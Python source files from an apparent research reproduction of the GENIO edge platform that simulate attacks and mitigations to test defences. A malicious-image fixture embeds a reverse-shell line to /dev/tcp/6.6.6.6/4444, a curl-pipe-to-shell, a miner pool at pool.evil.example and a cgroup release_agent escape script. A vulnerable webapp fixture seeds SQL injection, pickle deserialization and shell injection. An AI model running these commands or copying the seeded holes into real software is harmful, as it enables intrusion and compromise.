        ImagePackage("python-jinja", "2.10.1", "pypi", imported=False),
    ])
    image.add_layer({
        "/app/ingest.py": (
            "import urllib3\n\n\n"
            "def ingest(meter_id, reading):\n"
            "    value = int(reading)\n"
            "    return {'meter': meter_id, 'value': value}\n"
        ).encode(),
    }, created_by="COPY ingest.py")
    return image


def vulnerable_webapp_image() -> ContainerImage:
    """A third-party web app with seeded static and dynamic defects."""
    image = ContainerImage(
        name="webshop/storefront", tag="0.9.2", user="root",
        env={"DB_PASSWORD": "hunter2", "LOG_LEVEL": "debug"},
        exposed_ports=(80,), provenance="external",
        openapi_spec={
            "paths": {
                "/products": {"get": {
                    "parameters": [{"name": "category"}],
                    "x-vuln": "sqli",
                }},
                "/search": {"get": {
                    "parameters": [{"name": "q"}],
                    "x-vuln": "xss",
                }},
                "/admin/export": {"post": {
                    "parameters": [{"name": "format"}],
                    "security": [{"bearer": []}],
                    "x-vuln": "missing-auth-check",
                }},
            },
        })
    image.packages.extend([
        ImagePackage("django", "2.2.0", "pypi"),
        ImagePackage("urllib3", "1.25.8", "pypi"),
        ImagePackage("jinja2", "2.10.1", "pypi"),
    ])
    image.add_layer({
        "/app/views.py": (
            "import hashlib\n"
            "import os\n"
            "import pickle\n"
            "import subprocess\n\n"
            "db_password = 'hunter2'\n\n\n"
            "def get_products(conn, category):\n"
            "    query = \"SELECT * FROM products WHERE cat='\" + category + \"'\"\n"
            "    return conn.execute(query)\n\n\n"
            "def export(fmt, session_blob):\n"
            "    session = pickle.loads(session_blob)\n"
            "    subprocess.run('export --fmt ' + fmt, shell=True)\n"
            "    return session\n\n\n"
            "def cache_key(user):\n"
            "    return hashlib.md5(user.encode()).hexdigest()\n\n\n"
            "def ping(host):\n"
            "    os.system('ping -c1 ' + host)\n"
        ).encode(),
        "/app/settings.py": (
            "debug = True\n"
            "API_BASE = \"http://api.webshop.example/v1\"\n"
            "requests_kwargs = {'verify': False}\n"
        ).encode(),
    }, created_by="COPY app/")
    return image


def malicious_miner_image() -> ContainerImage:
    """A reused external image with a hidden miner and escape tooling."""
    image = ContainerImage(
        name="freebie/fast-cache", tag="latest", user="root",
        provenance="external")
    image.add_layer({
        "/usr/local/bin/cache-daemon": b"legit looking cache daemon bytes",
    }, created_by="COPY cache-daemon")
    image.add_layer({
        "/opt/.hidden/xmrig": (b"ELF...xmrig miner...stratum+tcp://"
                               b"pool.evil.example:3333 --donate-level=0"),
        "/opt/.hidden/escape.sh": (
            b"#!/bin/sh\n"
            b"# mount cgroup and abuse release_agent\n"
            b"echo payload > /sys/fs/cgroup/release_agent\n"
            b"cat /var/run/docker.sock\n"),
        "/opt/.hidden/persist.sh": (
            b"#!/bin/sh\ncurl -s | sh\nbash -i >& /dev/tcp/6.6.6.6/4444 0>&1\n"),
    }, created_by="RUN install-extras (obfuscated)")
    return image


def telemetry_gateway_image() -> ContainerImage:
    """A network-function workload bridging meter telemetry northbound.

    Seeds the remaining DAST defect families: an unauthenticated-write
    hole behind an auth-marked endpoint and a buffer-growth crash on
    oversized inputs, plus an insecure-deserialization SAST finding.
    """
    image = ContainerImage(
        name="telco/telemetry-gateway", tag="3.0.1", user="gateway",
        exposed_ports=(9443,), provenance="genio-registry",
        openapi_spec={
            "paths": {
                "/telemetry/batch": {"post": {
                    "parameters": [{"name": "payload"}],
                    "x-vuln": "overflow",
                }},
                "/config/reload": {"post": {
                    "parameters": [{"name": "profile"}],
                    "security": [{"bearer": []}],
                    "x-vuln": "missing-auth-check",
                }},
            },
        })
    image.packages.extend([
        ImagePackage("urllib3", "2.1.0", "pypi"),
        ImagePackage("celery", "5.0.0", "pypi"),
    ])
    image.add_layer({
        "/app/gateway.py": (
            "import pickle\n\n\n"
            "def load_session(blob):\n"
            "    return pickle.loads(blob)\n\n\n"
            "def forward(batch):\n"
            "    return [record for record in batch if record]\n"
        ).encode(),
    }, created_by="COPY gateway.py")
    return image


def legacy_java_billing_image() -> ContainerImage:
    """A legacy Java billing service (SpotBugs-style findings)."""
    image = ContainerImage(
        name="telco/billing-legacy", tag="5.1", user="root",
        exposed_ports=(8009,), provenance="genio-registry")
    image.packages.extend([
        ImagePackage("log4j-core", "2.14.0", "maven"),
        ImagePackage("commons-text", "1.9", "maven"),
    ])
    image.add_layer({
        "/opt/billing/src/Billing.java": (
            "public class Billing {\n"
            "    String lookup(String id) throws Exception {\n"
            "        return stmt.executeQuery(\"SELECT * FROM bills WHERE id=\" + id);\n"
            "    }\n"
            "    void run(String cmd) throws Exception {\n"
            "        Runtime.getRuntime().exec(cmd);\n"
            "    }\n"
            "    byte[] digest(byte[] in) throws Exception {\n"
            "        return MessageDigest.getInstance(\"MD5\").digest(in);\n"
            "    }\n"
            "}\n"
        ).encode(),
    }, created_by="COPY src/")
    return image

"""The assembled GENIO platform (Section II of the paper).

* :mod:`repro.platform.workloads` — realistic edge-application images
  (clean, vulnerable, malicious) matching the paper's use cases: ML
  workloads, real-time analytics, IoT data processing, network functions.
* :mod:`repro.platform.tenants` — business users, end users, and the
  IaaS resource-lease model.
* :mod:`repro.platform.genio` — the three-layer deployment of Figure 1
  (cloud, edge OLTs, far-edge ONUs) with its software stack (Figure 2),
  and the hook points where :mod:`repro.security.pipeline` applies the
  mitigations.
"""

from repro.platform.genio import GenioDeployment, OltNode, build_genio_deployment
from repro.platform.tenants import BusinessUser, EndUser, ResourceLease, TenantDirectory
from repro.platform.workloads import (
    iot_analytics_image, malicious_miner_image, ml_inference_image,
    telemetry_gateway_image, vulnerable_webapp_image,
    legacy_java_billing_image,
)

__all__ = [
    "GenioDeployment",
    "OltNode",
    "build_genio_deployment",
    "BusinessUser",
    "EndUser",
    "ResourceLease",
    "TenantDirectory",
    "iot_analytics_image",
    "malicious_miner_image",
    "ml_inference_image",
    "telemetry_gateway_image",
    "vulnerable_webapp_image",
    "legacy_java_billing_image",
]

"""Provisioning tenant leases onto the edge infrastructure.

Turns a :class:`~repro.platform.tenants.ResourceLease` into running
infrastructure, honoring the isolation mode the business user paid for:

* ``hard``  — a dedicated VM created through Proxmox on an OLT with room,
  owned exclusively by the tenant;
* ``soft``  — a carved-out share of an existing shared worker VM's
  runtime, bounded by resource limits matching the lease.

Capacity is checked against the OLT fleet, and hard-isolation VMs join
the Kubernetes cluster labeled with their tenant so scheduling stays
tenant-affine.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from repro.common.errors import CapacityError
from repro.platform.genio import GenioDeployment
from repro.platform.tenants import ResourceLease
from repro.virt.container import ResourceLimits
from repro.virt.vm import VirtualMachine, VmSpec


@dataclass
class ProvisionedLease:
    """One lease turned into infrastructure."""

    lease: ResourceLease
    isolation: str
    vm_id: str = ""            # hard isolation: the dedicated VM
    shared_node: str = ""      # soft isolation: the runtime carved into
    limits: Optional[ResourceLimits] = None


class LeaseProvisioner:
    """Provisions leases against a deployment's edge capacity."""

    def __init__(self, deployment: GenioDeployment,
                 pve_user: str = "alice@pve") -> None:
        self.deployment = deployment
        self.pve_user = pve_user
        self.provisioned: List[ProvisionedLease] = []

    def provision(self, lease: ResourceLease) -> ProvisionedLease:
        """Provision one lease.

        :raises CapacityError: no OLT can satisfy the lease.
        """
        if lease.isolation == "hard":
            result = self._provision_hard(lease)
        else:
            result = self._provision_soft(lease)
        self.provisioned.append(result)
        return result

    def _provision_hard(self, lease: ResourceLease) -> ProvisionedLease:
        for olt_node in self.deployment.olts:
            hypervisor = olt_node.hypervisor
            if (hypervisor.cpu_free() < lease.cpu_cores
                    or hypervisor.memory_free() < lease.memory_mb):
                continue
            vm = self.deployment.proxmox.create_vm(
                self.pve_user, olt_node.name,
                VmSpec(name=f"lease-{lease.tenant}-{len(self.provisioned)}",
                       vcpus=lease.cpu_cores, memory_mb=lease.memory_mb,
                       tenant=lease.tenant))
            olt_node.worker_vms.append(vm)
            self.deployment.cloud_cluster.add_node(
                vm, labels={"olt": olt_node.name, "tenant": lease.tenant,
                            "isolation": "hard"})
            return ProvisionedLease(lease=lease, isolation="hard", vm_id=vm.id)
        raise CapacityError(
            f"no OLT can host a dedicated {lease.cpu_cores}-core VM for "
            f"{lease.tenant}")

    def _provision_soft(self, lease: ResourceLease) -> ProvisionedLease:
        for vm in self.deployment.worker_vms():
            if vm.tenant not in (lease.tenant, "platform"):
                continue
            runtime = vm.runtime
            free_cpu = runtime.cpu_capacity - sum(
                (c.spec.limits.cpu_shares or 0) / 1024
                for c in runtime.running_containers())
            if free_cpu < lease.cpu_cores:
                continue
            limits = ResourceLimits(cpu_shares=lease.cpu_cores * 1024,
                                    memory_mb=lease.memory_mb)
            return ProvisionedLease(lease=lease, isolation="soft",
                                    shared_node=runtime.node_name,
                                    limits=limits)
        raise CapacityError(
            f"no shared worker VM has {lease.cpu_cores} cores free for "
            f"{lease.tenant}")

    def tenancy_summary(self) -> dict:
        hard = [p for p in self.provisioned if p.isolation == "hard"]
        soft = [p for p in self.provisioned if p.isolation == "soft"]
        return {"hard": len(hard), "soft": len(soft),
                "dedicated_vms": [p.vm_id for p in hard],
                "shared_nodes": sorted({p.shared_node for p in soft})}

"""The assembled GENIO deployment (Figures 1 and 2 of the paper).

:func:`build_genio_deployment` stands up the full three-layer platform
with the *insecure defaults* every component ships with — permissive ONL
hosts, serial-only ONU activation, AlwaysAllow Kubernetes, default ONOS
credentials — because that is the honest starting point of the paper's
work. :class:`repro.security.pipeline.SecurityPipeline` then applies
M1-M18, and every experiment can compare the two states.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common.clock import SimClock
from repro.common.sim import Scheduler
from repro.common.events import EventBus
from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.objects import Namespace
from repro.orchestrator.kube.rbac import Subject, permissive_default_rbac
from repro.orchestrator.proxmox import ProxmoxCluster, PveUser
from repro.orchestrator.registry import ImageRegistry
from repro.osmodel.host import Host
from repro.osmodel.presets import cloud_host, stock_onl_olt_host
from repro.platform.tenants import BusinessUser, EndUser, TenantDirectory
from repro.pon.network import PonNetwork
from repro.pon.onu import Onu
from repro.sdn.controller import SdnController
from repro.sdn.voltha import VolthaCore
from repro.virt.hypervisor import Hypervisor
from repro.virt.vm import VirtualMachine, VmSpec

# Latency profiles per layer (Figure 1's deployment rationale).
LAYER_LATENCY_MS = {"far-edge": 1.0, "edge": 5.0, "cloud": 40.0}


@dataclass
class OltNode:
    """One edge OLT: PON termination + compute hub."""

    name: str
    host: Host
    hypervisor: Hypervisor
    pon: PonNetwork
    worker_vms: List[VirtualMachine] = field(default_factory=list)


@dataclass
class GenioDeployment:
    """The whole platform."""

    clock: SimClock
    bus: EventBus
    scheduler: Scheduler
    cloud_node: Host
    cloud_cluster: KubeCluster
    olts: List[OltNode]
    onus: Dict[str, Onu]
    proxmox: ProxmoxCluster
    sdn: SdnController
    voltha: VolthaCore
    registry: ImageRegistry
    tenants: TenantDirectory

    # -- queries used by the Figure 1/2 benchmarks ------------------------------

    def all_hosts(self) -> List[Host]:
        return [self.cloud_node] + [olt.host for olt in self.olts]

    def worker_vms(self) -> List[VirtualMachine]:
        return [vm for olt in self.olts for vm in olt.worker_vms]

    def deployment_inventory(self) -> Dict[str, Dict[str, object]]:
        """Figure 1: what runs at each layer, and why (latency profile)."""
        return {
            "far-edge": {
                "devices": sorted(self.onus),
                "device_type": "ONU (+ low-end compute)",
                "location": "residential and business premises",
                "latency_ms": LAYER_LATENCY_MS["far-edge"],
                "suited_for": "ultra-low-latency applications",
            },
            "edge": {
                "devices": [olt.name for olt in self.olts],
                "device_type": "OLT repurposed as edge hub (x86 COTS)",
                "location": "telecom central offices",
                "latency_ms": LAYER_LATENCY_MS["edge"],
                "suited_for": "strict latency/bandwidth applications",
            },
            "cloud": {
                "devices": [self.cloud_node.hostname],
                "device_type": "orchestration center",
                "location": "operator cloud",
                "latency_ms": LAYER_LATENCY_MS["cloud"],
                "suited_for": "heavy computation, orchestration",
            },
        }

    def architecture_stack(self) -> Dict[str, List[str]]:
        """Figure 2: the software stack at each node type."""
        olt = self.olts[0] if self.olts else None
        olt_stack = ["x86 COTS hardware",
                     f"{olt.host.distro.version if olt else 'ONL'} "
                     "(Open Networking Linux)",
                     "Linux/KVM hypervisor",
                     f"{len(olt.worker_vms) if olt else 0} worker VMs "
                     "(hard isolation)",
                     "container runtime (soft isolation)",
                     "kubelet (Kubernetes worker)"]
        return {
            "ONU": ["PON optics", "onboard firmware",
                    "far-edge compute profile"],
            "OLT": olt_stack,
            "SDN plane": [f"ONOS {self.sdn.version}",
                          f"VOLTHA {self.voltha.version}",
                          "OpenFlow/PON adapters"],
            "cloud": [self.cloud_node.distro.version,
                      f"Kubernetes {self.cloud_cluster.api.config.version} "
                      "(orchestration center)",
                      f"Proxmox {self.proxmox.config.version}",
                      f"registry {self.registry.name}"],
        }


def build_genio_deployment(
    n_olts: int = 2,
    onus_per_olt: int = 4,
    vms_per_olt: int = 2,
    tenant_namespaces: tuple = ("tenant-a", "tenant-b"),
) -> GenioDeployment:
    """Stand up the full platform with every component's insecure defaults."""
    clock = SimClock()
    bus = EventBus()
    # One time authority for the whole deployment: operational cadences
    # (patching, key rotation, monitor sampling, traffic cycles) register
    # tasks here instead of advancing the shared clock themselves.
    scheduler = Scheduler(clock=clock)

    # -- cloud layer --------------------------------------------------------------
    cloud = cloud_host("cloud-ctl-1", clock=clock, bus=bus)
    cluster = KubeCluster("genio-edge", clock=clock, bus=bus,
                          rbac=permissive_default_rbac())
    for namespace in tenant_namespaces:
        cluster.add_namespace(Namespace(namespace))
    cluster.add_namespace(Namespace("kube-system"))
    cluster.api.register_token("token-tenant-a",
                               Subject("ServiceAccount", "tenant-a:default"))
    cluster.api.register_token("token-tenant-b",
                               Subject("ServiceAccount", "tenant-b:default"))
    cluster.api.register_token("token-ops-alice", Subject("User", "ops-alice"))
    cluster.api.register_token("token-deployer-a",
                               Subject("ServiceAccount", "tenant-a:deployer"))
    cluster.api.register_token("token-deployer-b",
                               Subject("ServiceAccount", "tenant-b:deployer"))

    # -- middleware -----------------------------------------------------------------
    proxmox = ProxmoxCluster()
    proxmox.add_user(PveUser("alice@pve", token="t-alice"))
    proxmox.add_user(PveUser("auditor@pve", token="t-audit"))
    sdn = SdnController()
    voltha = VolthaCore()
    registry = ImageRegistry()
    tenants = TenantDirectory()
    for namespace in tenant_namespaces:
        tenants.register_business_user(BusinessUser(
            name=namespace, namespace=namespace))

    # -- edge layer --------------------------------------------------------------------
    olts: List[OltNode] = []
    onus: Dict[str, Onu] = {}
    for olt_index in range(1, n_olts + 1):
        host = stock_onl_olt_host(f"olt-node-{olt_index}", clock=clock, bus=bus)
        hypervisor = Hypervisor(host.hostname, cpu_cores=16, memory_mb=65536,
                                clock=clock, bus=bus)
        proxmox.add_hypervisor(host.hostname, hypervisor)
        proxmox.grant(f"/nodes/{host.hostname}", "alice@pve", "PVEVMAdmin")

        pon = PonNetwork.build(f"olt-{olt_index}", clock=clock, bus=bus)
        node = OltNode(name=host.hostname, host=host,
                       hypervisor=hypervisor, pon=pon)

        for vm_index in range(vms_per_olt):
            tenant = tenant_namespaces[vm_index % len(tenant_namespaces)]
            vm = proxmox.create_vm("alice@pve", host.hostname, VmSpec(
                name=f"worker-{olt_index}-{vm_index}", vcpus=4,
                memory_mb=8192, tenant=tenant))
            node.worker_vms.append(vm)
            cluster.add_node(vm, labels={"olt": host.hostname,
                                         "tenant": tenant})
        olts.append(node)

        # -- far-edge layer --------------------------------------------------------
        for onu_index in range(1, onus_per_olt + 1):
            serial = f"GNIO{olt_index:02d}{onu_index:04d}"
            onu = Onu(serial, premises=f"premises-{olt_index}-{onu_index}")
            pon.attach_onu(onu)
            onus[serial] = onu
            tenants.register_end_user(EndUser(
                name=f"user-{serial}", onu_serial=serial))

        voltha.attach_olt(pon.olt)

    return GenioDeployment(
        clock=clock, bus=bus, scheduler=scheduler,
        cloud_node=cloud, cloud_cluster=cluster,
        olts=olts, onus=onus, proxmox=proxmox, sdn=sdn, voltha=voltha,
        registry=registry, tenants=tenants)

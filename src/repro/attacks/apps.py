"""T7/T8: application-level attacks.

* :class:`VulnerableAppExploit` — exploit a seeded defect in a deployed
  tenant application through its REST surface (T7).
* :class:`MaliciousImageAttack` — get a malware-carrying image running on
  the platform (T8; defeated by the M16 admission gate).
* :class:`CapabilityAbuseAttack` — from inside a running container, abuse
  capabilities/privilege to escape to the host (T8; defeated by M17
  sandboxing and restrictive pod admission).
* :class:`ResourceAbuseAttack` — monopolize node resources to starve
  neighbouring tenants (T8; defeated by limits + M18 abuse detection).
"""

from __future__ import annotations

from typing import List, Optional

from repro.common.errors import CapacityError, QuarantineError
from repro.pon.attacks import AttackResult
from repro.security.appsec.dast import RestService
from repro.virt.container import Container
from repro.virt.image import ContainerImage
from repro.virt.runtime import ContainerRuntime


class VulnerableAppExploit:
    """Exploit a known injection flaw in a tenant app's REST endpoint."""

    def __init__(self, image: ContainerImage) -> None:
        self.image = image

    def run(self) -> AttackResult:
        if not self.image.openapi_spec:
            return AttackResult("app-exploit", False,
                                "application exposes no REST surface to attack")
        service = RestService(self.image.reference, spec=self.image.openapi_spec)
        wins: List[str] = []
        for operation in service.operations:
            params = {p: "1' OR '1'='1' --" for p in operation.params}
            response = service.call(operation.method, operation.path, params)
            if response.server_error and "sqlite3" in response.body:
                wins.append(f"SQL injection on {operation.method} "
                            f"{operation.path}")
            if operation.requires_auth:
                response = service.call(operation.method, operation.path,
                                        {p: "1" for p in operation.params},
                                        authenticated=False)
                if response.status == 200:
                    wins.append(f"auth bypass on {operation.method} "
                                f"{operation.path}")
        if wins:
            return AttackResult("app-exploit", True,
                                f"{len(wins)} exploitable defects", evidence=wins)
        return AttackResult("app-exploit", False,
                            "no seeded defect reachable (patched application)")


class MaliciousImageAttack:
    """Deploy a malware-carrying image pulled from an external repo."""

    def __init__(self, runtime: ContainerRuntime,
                 image: ContainerImage) -> None:
        self.runtime = runtime
        self.image = image

    def run(self) -> AttackResult:
        from repro.virt.container import ContainerSpec
        spec = ContainerSpec(image=self.image, tenant="tenant-mallory")
        try:
            container = self.runtime.run(spec)
        except QuarantineError as exc:
            return AttackResult("malicious-image", False,
                                f"admission gate blocked the image: {exc}")
        except CapacityError as exc:
            return AttackResult("malicious-image", False, str(exc))
        return AttackResult("malicious-image", True,
                            f"malicious image running as {container.id}",
                            evidence=[self.image.reference])


class CapabilityAbuseAttack:
    """From inside a running container, escape to the host.

    The attack needs (a) a configuration vector (privileged /
    CAP_SYS_ADMIN / sensitive mount) and (b) the escape syscalls to
    actually execute — seccomp and LSM policies can deny them even when
    the configuration is sloppy.
    """

    def __init__(self, runtime: ContainerRuntime, container: Container) -> None:
        self.runtime = runtime
        self.container = container

    def run(self) -> AttackResult:
        vectors = self.container.escape_vectors()
        if not vectors:
            return AttackResult(
                "capability-abuse", False,
                "container configuration leaves no escape vector")
        # Try the cgroup release_agent chain: mount, write, trigger.
        steps = [
            ("mount", {"path": "/sys/fs/cgroup/memory", "mode": "rw"}),
            ("openat", {"path": "/sys/fs/cgroup/release_agent", "mode": "w"}),
            ("execve", {"path": "/bin/sh"}),
        ]
        blocked: List[str] = []
        for syscall, args in steps:
            record = self.runtime.syscall(self.container.id, syscall, **args)
            if not record.allowed:
                blocked.append(f"{syscall} denied by {record.blocked_by}")
        if blocked:
            return AttackResult(
                "capability-abuse", False,
                "escape chain interrupted by runtime enforcement",
                evidence=blocked)
        self.container.escaped = True
        return AttackResult(
            "capability-abuse", True,
            f"container escape via: {vectors[0]}",
            evidence=vectors)


class ResourceAbuseAttack:
    """Monopolize node CPU/memory from one tenant container."""

    def __init__(self, runtime: ContainerRuntime, container: Container,
                 rounds: int = 8) -> None:
        self.runtime = runtime
        self.container = container
        self.rounds = rounds

    def run(self) -> AttackResult:
        for _ in range(self.rounds):
            if not self.container.running:
                break
            self.runtime.consume(self.container.id,
                                 cpu=self.runtime.cpu_capacity / 4,
                                 memory_mb=self.runtime.memory_capacity_mb / 4)
            self.runtime.syscall(self.container.id, "clone")
        utilization = self.runtime.utilization()
        cpu_fraction = (utilization["cpu_used"] / utilization["cpu_capacity"]
                        if utilization["cpu_capacity"] else 0.0)
        own_share = (self.container.cpu_used / utilization["cpu_capacity"]
                     if utilization["cpu_capacity"] else 0.0)
        if not self.container.running:
            return AttackResult(
                "resource-abuse", False,
                f"container evicted mid-attack: {self.container.kill_reason}")
        if own_share >= 0.75:
            return AttackResult(
                "resource-abuse", True,
                f"one tenant holds {own_share:.0%} of node CPU; "
                "neighbours starved",
                evidence=[f"cpu_used={utilization['cpu_used']:.1f}"])
        return AttackResult(
            "resource-abuse", False,
            f"limits clamped the tenant to {own_share:.0%} of node CPU")

"""T5/T6: middleware privilege abuse and middleware software vulnerabilities."""

from __future__ import annotations

from typing import List, Optional

from repro.common.errors import AuthenticationError, AuthorizationError
from repro.orchestrator.kube.cluster import KubeCluster
from repro.pon.attacks import AttackResult
from repro.sdn.controller import ApiCapability, SdnController
from repro.security.vulnmgmt.cvedb import CveDatabase


class AnonymousApiAttack:
    """Abuse anonymous access / AlwaysAllow on the Kubernetes API.

    The attacker holds no credential at all and tries to read secrets and
    create workloads. Defeated by M10/M11 (anonymous auth off, RBAC mode).
    """

    def __init__(self, cluster: KubeCluster) -> None:
        self.cluster = cluster

    def run(self) -> AttackResult:
        api = self.cluster.api
        wins: List[str] = []
        try:
            api.request(None, "list", "secrets", "")
            wins.append("listed all secrets anonymously")
        except (AuthenticationError, AuthorizationError):
            pass
        try:
            api.request(None, "create", "pods", "kube-system", "backdoor",
                        obj={"image": "attacker/backdoor"})
            wins.append("created a pod in kube-system anonymously")
        except (AuthenticationError, AuthorizationError):
            pass
        if wins:
            return AttackResult("anonymous-api", True,
                                f"{len(wins)} anonymous operations succeeded",
                                evidence=wins)
        return AttackResult("anonymous-api", False,
                            "API rejected every anonymous operation")


class TokenAbuseAttack:
    """Lateral movement with a stolen tenant service-account token.

    Under permissive defaults the tenant token is cluster-admin; under
    least privilege it can read its own configmaps and nothing else.
    """

    def __init__(self, cluster: KubeCluster, stolen_token: str,
                 victim_namespace: str = "tenant-b") -> None:
        self.cluster = cluster
        self.stolen_token = stolen_token
        self.victim_namespace = victim_namespace

    def run(self) -> AttackResult:
        api = self.cluster.api
        wins: List[str] = []
        attempts = [
            ("get", "secrets", self.victim_namespace,
             "read another tenant's secrets"),
            ("create", "rolebindings", "kube-system",
             "granted self cluster admin"),
            ("delete", "pods", self.victim_namespace,
             "killed another tenant's workload"),
        ]
        for verb, resource, namespace, description in attempts:
            try:
                api.request(self.stolen_token, verb, resource, namespace,
                            "target", obj={})
                wins.append(description)
            except (AuthenticationError, AuthorizationError):
                continue
        if wins:
            return AttackResult("token-abuse", True,
                                "stolen tenant token enabled lateral movement",
                                evidence=wins)
        return AttackResult("token-abuse", False,
                            "stolen token confined to its least-privilege scope")


class MiddlewareCveExploit:
    """T6: exploit a known vulnerability in network-management middleware.

    The attacker fingerprints the SDN controller's version and fires a
    public exploit for a disclosed CVE (e.g. an improper-authorization or
    deserialization flaw in the northbound API). It works iff the deployed
    version falls in the CVE's affected range — which is exactly what the
    M12 tracking-and-patching loop exists to prevent: once vulnerability
    management upgrades the controller past the fixed version, the same
    exploit bounces.
    """

    def __init__(self, controller: SdnController, cvedb: CveDatabase,
                 cve_id: str = "CVE-2021-38363") -> None:
        self.controller = controller
        self.cvedb = cvedb
        self.cve_id = cve_id

    def run(self) -> AttackResult:
        cve = self.cvedb.get(self.cve_id)
        if cve is None:
            return AttackResult("middleware-cve", False,
                                f"{self.cve_id} unknown to the attacker")
        version = self.controller.version
        if not cve.affects("onos", version, "middleware"):
            return AttackResult(
                "middleware-cve", False,
                f"{self.cve_id} does not affect ONOS {version} "
                "(patched via M12 tracking)")
        # The flaw bypasses the API authorization layer entirely — no
        # credential needed, which is what distinguishes T6 from T5.
        device_ids = list(self.controller.devices) or ["(topology dump)"]
        return AttackResult(
            "middleware-cve", True,
            f"{self.cve_id} ({cve.summary}) against ONOS {version}: "
            "northbound API reached without authorization",
            evidence=[f"accessed: {', '.join(device_ids)}"])


def patch_controller(controller: SdnController, cvedb: CveDatabase,
                     cve_id: str = "CVE-2021-38363") -> bool:
    """The M12 remediation: upgrade the controller past the fixed version.

    Returns True if an upgrade was applied.
    """
    cve = cvedb.get(cve_id)
    if cve is None or cve.fixed is None:
        return False
    if not cve.affects("onos", controller.version, "middleware"):
        return False
    controller.version = cve.fixed
    return True


class DefaultCredentialAttack:
    """Log into the SDN controller with its shipped default credential
    and open a shell on the network OS. Defeated by M10's hardening."""

    def __init__(self, controller: SdnController) -> None:
        self.controller = controller

    def run(self) -> AttackResult:
        try:
            result = self.controller.call("onos", ApiCapability.SHELL_ACCESS,
                                          password="rocks")
        except (AuthenticationError, AuthorizationError) as exc:
            return AttackResult("default-credential", False,
                                f"controller rejected the default credential: {exc}")
        return AttackResult(
            "default-credential", True,
            "onos/rocks accepted; shell capability open",
            evidence=[str(result)])

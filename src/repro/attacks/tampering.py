"""T2: code-tampering attacks against boot chain, binaries and updates."""

from __future__ import annotations

from typing import Optional

from repro.common import crypto
from repro.common.errors import AuthorizationError, IntegrityError
from repro.osmodel.boot import BootComponent, BootStage
from repro.osmodel.host import Host
from repro.pon.attacks import AttackResult
from repro.security.integrity.fim import FileIntegrityMonitor
from repro.security.integrity.secureboot import SecureBootProvisioner
from repro.security.updates.onie import OnieImage, OnieInstaller


class BootKitAttack:
    """Replace the kernel image with a bootkit and try to boot it.

    Defeated by M5 (Secure Boot blocks the boot; Measured Boot leaves
    evidence even if verification is off).
    """

    def __init__(self, host: Host,
                 provisioner: Optional[SecureBootProvisioner] = None) -> None:
        self.host = host
        self.provisioner = provisioner

    def run(self) -> AttackResult:
        chain = self.host.boot_chain
        original = chain.components.get(BootStage.KERNEL)
        stolen_signature = original.signature if original else b""
        chain.install(BootComponent(BootStage.KERNEL, b"vmlinuz-bootkit-1.0",
                                    signature=stolen_signature))
        outcome = self.host.boot()
        if not outcome.booted:
            return AttackResult("bootkit", False,
                                f"Secure Boot blocked: {outcome.failure}")
        if self.provisioner is not None:
            attestation = self.provisioner.attest_host(self.host)
            if not attestation.trusted:
                return AttackResult(
                    "bootkit", False,
                    "bootkit ran but Measured Boot attestation flagged the "
                    f"platform ({attestation.detail}); node quarantined")
        return AttackResult("bootkit", True,
                            "bootkit booted with no verification or attestation",
                            evidence=["kernel image replaced"])


class BinaryImplantAttack:
    """Overwrite a system binary post-boot (persistence implant).

    Defeated by M7: the FIM check alerts on the modification. Immutable
    bits can block it outright.
    """

    def __init__(self, host: Host, fim: Optional[FileIntegrityMonitor] = None,
                 target: str = "/usr/bin/sudo") -> None:
        self.host = host
        self.fim = fim
        self.target = target

    def run(self) -> AttackResult:
        try:
            self.host.fs.write(self.target, b"IMPLANTED-BINARY",
                               actor="attacker")
        except AuthorizationError as exc:
            return AttackResult("binary-implant", False,
                                f"write blocked: {exc}")
        if self.fim is not None:
            report = self.fim.check()
            hit = [f for f in report.alerts if f.path == self.target]
            if hit:
                return AttackResult(
                    "binary-implant", False,
                    f"implant written but FIM alerted on {self.target} "
                    f"({hit[0].change}); incident response triggered")
        return AttackResult("binary-implant", True,
                            f"{self.target} replaced, nobody noticed",
                            evidence=[self.target])


class MaliciousUpdateAttack:
    """Push a tampered ONL image through the update channel.

    Defeated by M9: ONIE rejects images whose detached signature fails.
    """

    def __init__(self, host: Host, installer: Optional[OnieInstaller],
                 legitimate_image: OnieImage) -> None:
        self.host = host
        self.installer = installer
        self.legitimate_image = legitimate_image

    def run(self) -> AttackResult:
        tampered = OnieImage(
            name=self.legitimate_image.name,
            version=self.legitimate_image.version + "-trojan",
            payload=self.legitimate_image.payload + b"<TROJAN>",
            detached_signature=self.legitimate_image.detached_signature,
            signer_certificate=self.legitimate_image.signer_certificate,
        )
        if self.installer is None:
            # No verification channel: the node just applies what it gets.
            self.host.fs.write(f"/boot/vmlinuz-{tampered.version}",
                               tampered.payload, actor="attacker")
            self.host.kernel.version = tampered.version
            return AttackResult("malicious-update", True,
                                "unverified update channel applied trojan image",
                                evidence=[tampered.version])
        result = self.installer.apply_update(self.host, tampered)
        if result.applied:
            return AttackResult("malicious-update", True,
                                "signed-update path accepted a tampered image!")
        return AttackResult("malicious-update", False,
                            f"ONIE rejected the image: {result.detail}")

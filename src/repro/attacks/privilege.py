"""T3: privilege abuse through OS misconfiguration.

The attack models an intruder with an unprivileged foothold who walks
the classic escalation checklist: passwordless sudo, passwordless
accounts with login shells, writable setuid binaries, world-writable
paths on privileged execution routes, and permissive SSH. Hardening (M1)
removes every rung; the attack reports which rungs were available.
"""

from __future__ import annotations

from typing import List

from repro.osmodel.host import Host
from repro.pon.attacks import AttackResult


class PrivilegeEscalationAttack:
    """Escalate from an unprivileged account to root on a host."""

    def __init__(self, host: Host, foothold_user: str = "diag") -> None:
        self.host = host
        self.foothold_user = foothold_user

    def _available_rungs(self) -> List[str]:
        host = self.host
        rungs: List[str] = []

        if host.users.passwordless_sudoers():
            names = ", ".join(u.name for u in host.users.passwordless_sudoers())
            rungs.append(f"NOPASSWD sudo via {names}")

        weak_logins = [u.name for u in host.users.all()
                       if not u.password_set and not u.login_disabled]
        if weak_logins:
            rungs.append(f"passwordless login as {', '.join(weak_logins)}")

        writable_setuid = [n.path for n in host.fs.glob_setuid()
                           if n.mode & 0o022]
        if writable_setuid:
            rungs.append(f"overwrite writable setuid {writable_setuid[0]}")

        sshd = host.services.get("sshd")
        if sshd and sshd.running and sshd.config.get("PermitRootLogin") == "yes" \
                and sshd.config.get("PasswordAuthentication") == "yes":
            rungs.append("brute-force root over password SSH")

        telnet = host.services.get("telnetd")
        if telnet and telnet.running:
